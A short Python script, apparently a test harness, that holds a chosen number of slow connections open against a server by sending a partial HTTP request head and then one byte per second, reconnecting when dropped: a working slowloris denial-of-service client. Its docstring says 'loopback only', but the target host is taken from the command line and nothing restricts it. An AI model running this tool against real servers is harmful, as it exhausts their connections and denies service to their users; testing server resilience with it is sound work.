"""Holds N slow clients open against a server: each sends part of a request head and
then one more byte every second, reconnecting when the server closes it (as a
slowloris attacker does). Runs for a bounded time; loopback only."""

import selectors
import socket
import sys
import time


def main():
    host, port, count, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
    sel = selectors.DefaultSelector()
    socks = set()

    def connect():
        s = socket.socket()
        s.setblocking(False)
        try:
            s.connect((host, port))
        except BlockingIOError:
            pass
        except OSError:
            return
        sel.register(s, selectors.EVENT_WRITE | selectors.EVENT_READ)
        socks.add(s)

    def drop(s):
        sel.unregister(s)
        socks.discard(s)
        s.close()

    for _ in range(count):
        connect()
    deadline = time.monotonic() + seconds
    started = {}
    reconnects = 0
    while time.monotonic() < deadline:
        for key, ev in sel.select(timeout=1.0):
            s = key.fileobj
            if ev & selectors.EVENT_READ:
                try:
                    data = s.recv(4096)
                except OSError:
                    data = b""
                if not data:
                    drop(s)
                    reconnects += 1
                    connect()
                    continue
            if ev & selectors.EVENT_WRITE and s not in started:
                try:
                    s.send(b"GET / HTTP/1.1\r\nHost: x\r\nX-a: ")
                    started[s] = time.monotonic()
                    sel.modify(s, selectors.EVENT_READ)
                except OSError:
                    drop(s)
        now = time.monotonic()
        for s in list(socks):
            if s in started and now - started[s] >= 1.0:
                try:
                    s.send(b"b")
                    started[s] = now
                except OSError:
                    drop(s)
                    reconnects += 1
                    connect()
    print(f"slowloris: {len(socks)} open at the end, {reconnects} reconnects", file=sys.stderr)


if __name__ == "__main__":
    main()
